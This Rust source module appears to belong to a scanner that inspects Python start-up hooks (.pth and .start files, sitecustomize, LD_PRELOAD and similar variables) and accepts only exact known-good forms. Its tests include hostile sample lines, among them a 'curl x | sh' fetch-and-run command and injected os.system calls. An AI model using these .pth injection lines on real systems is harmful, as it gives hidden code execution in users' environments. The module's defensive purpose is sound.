//! Start-up hooks: what runs in every Python process before the user's first line.
//!
//! * `.pth` files in a site directory (`site.addpackage`): a line that starts with `import ` or
//!   `import\t` is passed to `exec()`; other non-comment lines are appended to `sys.path`. Lines
//!   are split the way Python's text mode splits them (`\n`, `\r\n` and a lone `\r`), so a `\r`
//!   cannot hide an `import` line inside a "comment". A handful of legitimate forms are accepted,
//!   each only when its text matches the known form exactly ([`accept_exec_lines`]).
//! * PEP 829 (accepted 2026-04, Python 3.15+) "Package Startup Configuration Files": `<name>.start`
//!   files beside the `.pth` files, one `pkg.mod:callable` entry point a line, each called at
//!   start-up. No legitimate form is known yet, so every entry point is reported.
//! * `sitecustomize` / `usercustomize` modules anywhere on the search path.
//! * Environment variables read by the interpreter or the dynamic loader, and `/etc/ld.so.preload`.

/// The lines of a `.pth` file as `site.addpackage` reads them.
#[derive(Debug, Default, Clone, PartialEq, Eq)]
pub(crate) struct Pth {
    /// Lines passed to `exec()`.
    pub(crate) exec_lines: Vec<String>,
    /// Lines appended to `sys.path` (relative ones anchored at the site directory).
    pub(crate) path_lines: Vec<String>,
}

/// Split like Python's universal-newline text mode.
fn python_lines(text: &str) -> impl Iterator<Item = &str> {
    text.split("\r\n").flat_map(|l| l.split(['\r', '\n']))
}

/// Parse a `.pth` file. A leading UTF-8 BOM is dropped (Python 3.13+ reads `utf-8-sig`), which
/// can only turn more lines into executed ones, never fewer.
pub(crate) fn parse_pth(content: &[u8]) -> Pth {
    let text = String::from_utf8_lossy(content);
    let text = text.strip_prefix('\u{feff}').unwrap_or(&text);
    let mut pth = Pth::default();
    for line in python_lines(text) {
        if line.starts_with('#') || line.trim().is_empty() {
            continue;
        }
        if line.starts_with("import ") || line.starts_with("import\t") {
            pth.exec_lines.push(line.to_owned());
        } else {
            pth.path_lines.push(line.trim_end().to_owned());
        }
    }
    pth
}

/// `distutils-precedence.pth` as setuptools writes it (60+ defaults to `local`; 49–59 to
/// `stdlib`). It makes `import distutils` resolve to setuptools' copy.
const DISTUTILS_PRECEDENCE: [&str; 2] = [
    "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); ",
    "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'stdlib') == 'local'; enabled and __import__('_distutils_hack').add_shim(); ",
];

/// The subprocess-measurement hook from coverage.py's documentation ("Measuring sub-processes").
const COVERAGE: &str = "import coverage; coverage.process_startup()";

/// The namespace-package line setuptools writes into `*-nspkg.pth` for package `pkg`
/// (`setuptools/namespaces.py`, `_nspkg_tmpl`; used by old protobuf, matplotlib `mpl_toolkits`,
/// `google-*` and `zope.*` wheels). `modern` selects the template with importlib (setuptools 31+).
fn nspkg_line(pkg: &str, modern: bool) -> String {
    let parts: Vec<String> = pkg.split('.').map(|p| format!("'{p}'")).collect();
    let pth = if parts.len() == 1 {
        format!("({},)", parts[0])
    } else {
        format!("({})", parts.join(", "))
    };
    let root = "sys._getframe(1).f_locals['sitedir']";
    let mut lines: Vec<String> = if modern {
        vec![
            "import sys, types, os".into(),
            "has_mfs = sys.version_info > (3, 5)".into(),
            format!("p = os.path.join({root}, *{pth})"),
            "importlib = has_mfs and __import__('importlib.util')".into(),
            "has_mfs and __import__('importlib.machinery')".into(),
            format!(
                "m = has_mfs and sys.modules.setdefault('{pkg}', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('{pkg}', [os.path.dirname(p)])))"
            ),
            format!("m = m or sys.modules.setdefault('{pkg}', types.ModuleType('{pkg}'))"),
            "mp = (m or []) and m.__dict__.setdefault('__path__',[])".into(),
            "(p not in mp) and mp.append(p)".into(),
        ]
    } else {
        vec![
            "import sys, types, os".into(),
            format!("p = os.path.join({root}, *{pth})"),
            "ie = os.path.exists(os.path.join(p,'__init__.py'))".into(),
            format!("m = not ie and sys.modules.setdefault('{pkg}', types.ModuleType('{pkg}'))"),
            "mp = (m or []) and m.__dict__.setdefault('__path__',[])".into(),
            "(p not in mp) and mp.append(p)".into(),
        ]
    };
    if let Some((parent, child)) = pkg.rsplit_once('.') {
        lines.push(format!(
            "m and setattr(sys.modules['{parent}'], '{child}', m)"
        ));
    }
    lines.join(";")
}

fn is_dotted_identifier(s: &str) -> bool {
    !s.is_empty()
        && s.split('.').all(|p| {
            let mut chars = p.chars();
            chars
                .next()
                .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
                && chars.all(|c| c.is_ascii_alphanumeric() || c == '_')
        })
}

/// The package a namespace line declares, if the line is exactly setuptools' template for it.
fn nspkg_package(line: &str) -> Option<String> {
    let marker = "sys.modules.setdefault('";
    let start = line.find(marker)? + marker.len();
    let pkg = &line[start..start + line[start..].find('\'')?];
    if !is_dotted_identifier(pkg) {
        return None;
    }
    [true, false]
        .into_iter()
        .any(|modern| nspkg_line(pkg, modern) == line)
        .then(|| pkg.to_owned())
}

/// The finder module a setuptools PEP 660 editable-install hook imports:
/// `import __editable___<name>_finder; __editable___<name>_finder.install()`.
pub(crate) fn editable_finder(line: &str) -> Option<&str> {
    let rest = line.strip_prefix("import ")?;
    let (module, call) = rest.split_once("; ")?;
    let ok = module.starts_with("__editable___")
        && module.ends_with("_finder")
        && is_dotted_identifier(module)
        && !module.contains('.')
        && call.trim_end() == format!("{module}.install()");
    ok.then_some(module)
}

/// Why the executed lines of `.pth` file `name` are legitimate, or `None` when they are not of
/// a known form. `finder_is_recorded(module)` says whether `<module>.py` exists in the same site
/// directory and is listed in a RECORD (so its content is hash-verified).
pub(crate) fn accept_exec_lines(
    name: &str,
    lines: &[String],
    finder_is_recorded: impl Fn(&str) -> bool,
) -> Option<String> {
    let all = |pred: &dyn Fn(&str) -> bool| lines.iter().all(|l| pred(l));
    if name == "distutils-precedence.pth"
        && all(&|l| {
            DISTUTILS_PRECEDENCE
                .iter()
                .any(|k| k.trim_end() == l.trim_end())
        })
    {
        return Some("setuptools' distutils shim (known form)".into());
    }
    if name == "_virtualenv.pth" && all(&|l| l.trim_end() == "import _virtualenv") {
        return Some("virtualenv's interpreter patcher (known form; _virtualenv.py is not covered by any RECORD)".into());
    }
    if name.starts_with("__editable__.")
        && all(&|l| editable_finder(l).is_some_and(&finder_is_recorded))
    {
        return Some(
            "setuptools editable-install finder (known form, finder module verified by RECORD)"
                .into(),
        );
    }
    if name.ends_with("-nspkg.pth") && all(&|l| nspkg_package(l).is_some()) {
        let pkgs: Vec<String> = lines.iter().filter_map(|l| nspkg_package(l)).collect();
        return Some(format!(
            "setuptools namespace package declaration for {} (known form)",
            pkgs.join(", ")
        ));
    }
    if all(&|l| l.trim_end() == COVERAGE) {
        return Some("coverage.py subprocess measurement (known form)".into());
    }
    None
}

/// The entry points of a PEP 829 `.start` file (non-blank, non-comment lines).
pub(crate) fn start_entry_points(content: &[u8]) -> Vec<String> {
    let text = String::from_utf8_lossy(content);
    let text = text.strip_prefix('\u{feff}').unwrap_or(&text);
    python_lines(text)
        .map(str::trim)
        .filter(|l| !l.is_empty() && !l.starts_with('#'))
        .map(str::to_owned)
        .collect()
}

/// Environment variables that change what runs at interpreter or process start, with why.
pub(crate) const RISKY_ENV: [(&str, &str); 7] = [
    (
        "PYTHONSTARTUP",
        "file executed at the start of every interactive session",
    ),
    (
        "PYTHONPATH",
        "directories searched for modules before site-packages",
    ),
    ("PYTHONHOME", "replaces the standard library location"),
    (
        "PYTHONINSPECT",
        "drops into an interactive prompt after the script",
    ),
    (
        "PYTHONUSERBASE",
        "moves the user site-packages (and its .pth files)",
    ),
    (
        "LD_PRELOAD",
        "shared objects loaded into every dynamically linked process",
    ),
    (
        "LD_LIBRARY_PATH",
        "directories searched for shared libraries before the system ones",
    ),
];

/// Whether a `PYTHONWARNINGS` value names a warning category by module path: the warnings
/// machinery imports that module at start-up.
pub(crate) fn warnings_imports_module(value: &str) -> bool {
    value.split(',').any(|filter| {
        filter
            .split(':')
            .nth(2)
            .is_some_and(|category| category.trim().contains('.'))
    })
}

/// Whether a directory entry name is an importable `sitecustomize`/`usercustomize`.
pub(crate) fn is_customize_module(name: &str) -> bool {
    ["sitecustomize", "usercustomize"].iter().any(|m| {
        name == *m
            || name
                .strip_prefix(m)
                .and_then(|rest| rest.strip_prefix('.'))
                .is_some_and(|ext| {
                    ext == "py" || ext == "pyc" || ext == "pyw" || ext.ends_with("so")
                })
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn pth_lines_split_like_python() {
        let pth = parse_pth(b"# comment\rimport evil\n../lib\r\n\n import not_exec\nimport\tos\n");
        assert_eq!(pth.exec_lines, vec!["import evil", "import\tos"]);
        assert_eq!(pth.path_lines, vec!["../lib", " import not_exec"]);
        let bom = parse_pth("\u{feff}import x\n".as_bytes());
        assert_eq!(bom.exec_lines, vec!["import x"]);
    }

    #[test]
    fn nspkg_matches_setuptools_output_exactly() {
        // Output of setuptools 65's Installer._gen_nspkg_line('google.cloud') (without '\n').
        let real = "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('google', 'cloud'));importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs and sys.modules.setdefault('google.cloud', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('google.cloud', [os.path.dirname(p)])));m = m or sys.modules.setdefault('google.cloud', types.ModuleType('google.cloud'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p);m and setattr(sys.modules['google'], 'cloud', m)";
        assert_eq!(nspkg_package(real).as_deref(), Some("google.cloud"));
        let lines = vec![real.to_owned()];
        assert!(
            accept_exec_lines("google_cloud-1.0-py3.11-nspkg.pth", &lines, |_| false).is_some()
        );
        // One appended statement and it is no longer the known form.
        let evil = vec![format!("{real};__import__('os').system('id')")];
        assert!(accept_exec_lines("google_cloud-1.0-py3.11-nspkg.pth", &evil, |_| false).is_none());
        // The right text under another name is not accepted either.
        assert!(accept_exec_lines("other.pth", &lines, |_| false).is_none());
    }

    #[test]
    fn known_forms_need_exact_text() {
        let ok = vec![DISTUTILS_PRECEDENCE[0].to_owned()];
        assert!(accept_exec_lines("distutils-precedence.pth", &ok, |_| false).is_some());
        let bad = vec![DISTUTILS_PRECEDENCE[0].replace("add_shim()", "add_shim() or exec('x')")];
        assert!(accept_exec_lines("distutils-precedence.pth", &bad, |_| false).is_none());
        let venv = vec!["import _virtualenv".to_owned()];
        assert!(accept_exec_lines("_virtualenv.pth", &venv, |_| false).is_some());
        assert!(accept_exec_lines("zzz.pth", &venv, |_| false).is_none());
        let editable = vec![
            "import __editable___demo_1_0_finder; __editable___demo_1_0_finder.install()"
                .to_owned(),
        ];
        let name = "__editable__.demo-1.0.pth";
        assert!(
            accept_exec_lines(name, &editable, |m| m == "__editable___demo_1_0_finder").is_some()
        );
        assert!(accept_exec_lines(name, &editable, |_| false).is_none());
        let swapped = vec!["import __editable___demo_1_0_finder; os.system('id')".to_owned()];
        assert!(accept_exec_lines(name, &swapped, |_| true).is_none());
        let cov = vec![COVERAGE.to_owned()];
        assert!(accept_exec_lines("a1_coverage.pth", &cov, |_| false).is_some());
        let os = vec!["import os; os.system('curl x | sh')".to_owned()];
        assert!(accept_exec_lines("distutils-precedence.pth", &os, |_| true).is_none());
    }

    #[test]
    fn start_files_customize_names_and_warnings() {
        assert_eq!(
            start_entry_points(b"# c\n\npkg.mod:main\r\n  other:run \n"),
            vec!["pkg.mod:main", "other:run"]
        );
        assert!(is_customize_module("sitecustomize.py"));
        assert!(is_customize_module(
            "usercustomize.cpython-311-x86_64-linux-gnu.so"
        ));
        assert!(is_customize_module("sitecustomize"));
        assert!(!is_customize_module("sitecustomize.txt"));
        assert!(!is_customize_module("my_sitecustomize.py"));
        assert!(warnings_imports_module("ignore::evil.Warning"));
        assert!(!warnings_imports_module(
            "ignore::DeprecationWarning,default"
        ));
    }
}
